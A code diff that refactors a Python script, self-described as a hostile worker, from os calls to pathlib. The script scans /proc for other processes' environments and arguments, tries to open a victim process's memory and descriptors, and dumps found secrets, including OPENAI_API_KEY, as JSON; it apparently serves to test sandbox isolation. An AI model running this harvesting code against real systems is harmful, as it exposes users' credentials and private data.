@@ -1,4 +1,3 @@
-# ruff: noqa: PTH, T201  # each call is one attempt, as a hostile program would make it
 """A hostile worker: it looks for secrets in other processes and in files, and prints what it finds as JSON.
 
 It is run as a script, with the standard library alone. Its arguments are the PID of the victim (0: its parent) and the
@@ -22,7 +21,7 @@ _PTRACE_ATTACH, _PTRACE_SEIZE = 16, 0x4206
 
 def _read(file):
     try:
-        with open(file, "rb", buffering=0) as opened:
+        with Path(file).open("rb", buffering=0) as opened:
             return opened.read(_LARGEST)
     except OSError:
         return b""
@@ -31,8 +30,8 @@ def _read(file):
 def environments_and_arguments():
     """Everything that /proc shows of the environment and the arguments of all processes."""
     found = []
-    for pid in filter(str.isdecimal, os.listdir("/proc")):
-        found += [_read(f"/proc/{pid}/cmdline"), _read(f"/proc/{pid}/environ")]
+    for process in Path("/proc").glob("[0-9]*"):
+        found += [_read(process / "cmdline"), _read(process / "environ")]
     return b"\n".join(found)
 
 
@@ -54,32 +53,33 @@ def files(folders):
 def descriptors():
     """The targets of the descriptors that this process has inherited, but for its standard ones."""
     targets = []
-    for name in os.listdir("/proc/self/fd"):
+    for descriptor in Path("/proc/self/fd").iterdir():
         try:
-            target = os.readlink(f"/proc/self/fd/{name}")
+            target = descriptor.readlink()
         except FileNotFoundError:  # that of the list itself
             continue
-        if int(name) > 2:
-            targets.append(target)
+        if int(descriptor.name) > 2:
+            targets.append(str(target))
     return targets
 
 
 def ways_into(pid):
     """Try each way to the memory, the environment and the descriptors of a process; return those that succeed."""
-    ways = [f"/proc/{pid}/{name}" for name in ("environ", "mem", "maps", "smaps", "auxv", "pagemap", "io")]
-    ways += [f"/proc/{pid}/task/{task}/mem" for task in os.listdir(f"/proc/{pid}/task")]
+    victim = Path(f"/proc/{pid}")
+    ways = [victim / name for name in ("environ", "mem", "maps", "smaps", "auxv", "pagemap", "io")]
+    ways += [task / "mem" for task in (victim / "task").iterdir()]
     opened = []
     for way in ways:
         try:
-            with open(way, "rb", buffering=0) as file:
-                if not way.endswith("mem"):
+            with way.open("rb", buffering=0) as file:
+                if way.name != "mem":
                     file.read(1)
         except OSError:
             continue
-        opened.append(way)
+        opened.append(str(way))
     for way in ("exe", "cwd", "root", "ns/net", "fd/0", "fd/1", "fd/2", *(f"fd/{number}" for number in range(3, 64))):
         try:
-            os.readlink(f"/proc/{pid}/{way}")
+            (victim / way).readlink()
         except OSError:
             continue
         opened.append(way)
@@ -106,37 +106,19 @@ def _by_system_calls(pid):
     return opened
 
 
-def ways_out():
-    """Return the sockets that this process can make or reach, but for those of IP."""
-    found = []
-    for file in _read("/proc/net/unix").split(b"\n")[1:]:
-        name = file.decode("utf-8", "replace").split()[7:]
-        try:
-            with socket.socket(socket.AF_UNIX) as connection:
-                connection.connect(name[0].replace("@", "\0", 1) if name else "\0nothing")
-        except OSError as error:
-            if error.errno == 97:  # no socket of this family
-                continue
-        found.append(name)
-    return found
-
-
 def main():
     """Look everywhere, and print what was found."""
     victim = int(sys.argv[1]) or os.getppid()
-    print(
-        json.dumps(
-            {
-                "processes": environments_and_arguments().decode("latin-1"),
-                "files": files(sys.argv[2:]).decode("latin-1"),
-                "descriptors": descriptors(),
-                "victim": Path(f"/proc/{victim}/cmdline").read_bytes().decode(),
-                "ways": ways_into(victim),
-                "interfaces": [name for _, name in socket.if_nameindex()] if hasattr(socket, "if_nameindex") else [],
-                "placeholder": os.environ.get("OPENAI_API_KEY"),
-            }
-        )
-    )
+    found = {
+        "processes": environments_and_arguments().decode("latin-1"),
+        "files": files(sys.argv[2:]).decode("latin-1"),
+        "descriptors": descriptors(),
+        "victim": Path(f"/proc/{victim}/cmdline").read_bytes().decode(),
+        "ways": ways_into(victim),
+        "interfaces": [name for _, name in socket.if_nameindex()],
+        "placeholder": os.environ.get("OPENAI_API_KEY"),
+    }
+    json.dump(found, sys.stdout)
 
 
 if __name__ == "__main__":
